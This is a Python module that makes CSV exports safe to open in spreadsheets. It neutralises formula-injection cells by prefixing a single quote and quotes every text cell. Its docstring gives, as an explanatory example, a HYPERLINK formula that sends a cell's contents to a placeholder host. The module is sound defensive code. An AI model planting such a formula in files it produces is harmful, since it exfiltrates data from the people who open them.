"""CSV files people open in a spreadsheet, made safe to open.

Excel, LibreOffice and Google Sheets evaluate a cell that begins with `=`, `+`, `-`, `@`, a
tab or a carriage return as a formula (CSV injection, CWE-1236), so a tenant named
`=HYPERLINK("http://x.example/?d="&B2,"details")` would run in the compliance officer's
spreadsheet. Every CSV the project writes goes through `to_csv`, which prefixes such text
cells with a single quote (OWASP's advice): the spreadsheet shows the text, runs nothing.
Numbers stay numbers.
"""

from __future__ import annotations

import csv
from typing import TYPE_CHECKING

if TYPE_CHECKING:  # pandas costs a light run 2 s; imported where a report is built
    import pandas as pd


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: object) -> object:
    """`'=SUM(1+9)` for `=SUM(1+9)`; anything that is not such text, unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def to_csv(frame: pd.DataFrame) -> bytes:
    """The frame as UTF-8 CSV bytes, every text cell (and header) spreadsheet-safe."""
    import pandas as pd

    safe = frame.copy()
    for column in safe.columns:
        # Text columns are `object` or pandas' string dtype, by version and by content.
        if not pd.api.types.is_numeric_dtype(safe[column]):
            safe[column] = safe[column].map(neutralise)
    safe.columns = [neutralise(str(c)) for c in safe.columns]
    # Every text cell quoted: a bare CR inside a name (which pandas leaves unquoted) would
    # otherwise start a new row in a spreadsheet, and the rest of the name a new cell.
    return safe.to_csv(index=False, quoting=csv.QUOTE_NONNUMERIC).encode()
